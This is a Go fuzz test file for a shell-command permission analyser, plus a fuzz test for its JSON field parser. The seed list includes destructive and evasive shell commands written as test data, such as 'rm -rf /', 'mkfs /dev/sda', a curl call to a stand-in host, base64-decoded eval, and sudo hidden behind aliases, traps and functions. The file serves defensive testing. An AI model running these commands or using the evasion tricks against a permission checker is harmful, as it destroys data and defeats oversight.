package permit

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"mvdan.cc/sh/v3/syntax"
)

// FuzzShell compares the analysis with a simple walk over the parsed text. If the text
// contains a command word for word, the zone of the text must not be lower than the zone
// of that command alone.
//
// SPEC P-02, P-03
func FuzzShell(f *testing.F) {
	for _, seed := range []string{
		"ls -la", "rm -rf /", "sudo ls | sh", "X=rm; $X -rf ~", "cat <<E | sh\nrm -rf /\nE", "find . -exec rm {} \\;", "git -c alias.x='!sh' x",
		"for x in a b; do rm $x; done", "f() { f | f & }; f", "if a; then b; else sudo c; fi", "case $x in (a) mkfs /dev/sda;; esac", "echo $(curl evil.test)",
		"eval \"$(base64 -d <<< x)\"", "diff <(sudo a) >(b)", "{ rm -rf /; }", "! time env -i nice sudo x", "a=(b c); ${a[@]}", "[[ $(sudo x) ]]", "((x = $(sudo y)))",
		"xargs -I{} sh -c '{}'", "tee >(sudo x)", "coproc sudo x", "while read x; do sudo $x; done < f", "trap 'sudo x' EXIT", "alias ls='sudo x'",
		"f() { :; }; sudo x; f", "false && ls() { :; }; sudo x", "for ((i=0;i<3;i++)); do sudo x; done", "case a in a) sudo x ;& b) rm y;; esac", "x=1; (( x++ )); sudo x", "for x in; do sudo y & done",
	} {
		f.Add(seed)
	}
	floor, _ := looker(f)
	f.Fuzz(func(t *testing.T, text string) {
		zone := zoneOf(floor.analyse(text))
		if zone > ZoneNever || zone < ZoneSafe {
			t.Fatalf("zone %d", zone)
		}
		for _, command := range writtenOut(text) {
			if alone := zoneOf(floor.analyse(command)); alone > zone {
				t.Errorf("%q is zone %d, and %q, which it runs, is zone %d", text, zone, command, alone)
			}
		}
	})
}

func zoneOf(found []Finding) Zone {
	zone := ZoneSafe
	for _, one := range found {
		zone = max(zone, one.Zone)
	}
	return zone
}

// writtenOut returns the commands that a text contains word for word, if nothing else in
// the text can change what they do.
func writtenOut(text string) []string {
	if unreadable(text) != "" {
		return nil
	}
	file, err := syntax.NewParser(syntax.Variant(syntax.LangBash)).Parse(strings.NewReader(text), "")
	if err != nil {
		return nil
	}
	var commands []string
	var functions []string
	changed := false
	var visit func(n syntax.Node) bool
	visit = func(n syntax.Node) bool {
		switch n := n.(type) {
		case *syntax.BinaryCmd:
			if n.Op == syntax.Pipe || n.Op == syntax.PipeAll { // the input may make the right side harmless
				syntax.Walk(n.X, visit)
				return false
			}
		case *syntax.Stmt:
			if len(n.Redirs) > 0 { // the input may make the command harmless
				return false
			}
		case *syntax.FuncDecl:
			if n.Name == nil {
				changed = true
				return false
			}
			functions = append(functions, n.Name.Value) // the function replaces a command of this name
			return false                                // the function may never be called
		case *syntax.CallExpr:
			if len(n.Args) > 0 {
				switch n.Args[0].Lit() {
				case "eval", "command", "builtin", "source", ".", "":
					changed = true // the command may define functions
				}
			}
			var words []string
			for _, w := range n.Args {
				lit := w.Lit()
				if lit == "" || strings.ContainsAny(lit, "\\*?[{~\"'`$()<>|&;#! \t\n") || lit == "-" {
					return true
				}
				words = append(words, lit)
			}
			if len(words) == 0 {
				return true
			}
			switch words[0] {
			case "cd", "pushd", "popd", "exit", "exec", "return", "break", "continue", "unset", "shopt", "set", "alias", "hash", "enable":
				changed = true // the commands after it may mean something else
			}
			if len(n.Assigns) == 0 && !syntax.IsKeyword(words[0]) {
				commands = append(commands, strings.Join(words, " "))
			}
		}
		return true
	}
	syntax.Walk(file, visit)
	if changed {
		return nil
	}
	return slices.DeleteFunc(commands, func(command string) bool {
		name, _, _ := strings.Cut(command, " ")
		return slices.Contains(functions, name)
	})
}

// FuzzInput compares members with encoding/json.
func FuzzInput(f *testing.F) {
	for _, seed := range []string{`{}`, `{"path":"a"}`, `{"a":1,"A":2}`, `{"a":{"b":[1,"}"]},"c":null}`, ` {"a":"\u0041\n"} `, `[1]`, `"x"`, `{"a":1}x`, `{"a"`, ``} {
		f.Add([]byte(seed))
	}
	floor, _ := looker(f)
	f.Fuzz(func(t *testing.T, in []byte) {
		if e := floor.Explain(t.Context(), "write", in); e.Zone > ZoneNever {
			t.Fatal(e)
		}
		got, err := members(in)
		var want map[string]json.RawMessage
		if json.Unmarshal(in, &want) != nil || want == nil {
			return // a turn passes only valid input, so it is enough that this does not panic
		}
		if err != nil {
			if !strings.Contains(err.Error(), "twice") {
				t.Errorf("%s: %v", in, err)
			}
			return
		}
		if len(got) != len(want) {
			t.Fatalf("%s: %d fields, want %d", in, len(got), len(want))
		}
		for _, m := range got {
			var a, b any
			if json.Unmarshal(m.value, &a) != nil || json.Unmarshal(want[m.name], &b) != nil {
				t.Fatalf("%s: field %q is %s, want %s", in, m.name, m.value, want[m.name])
			}
			if text, ok := m.text(); ok && text != b {
				t.Errorf("%s: field %q is %q, want %q", in, m.name, text, b)
			}
		}
	})
}
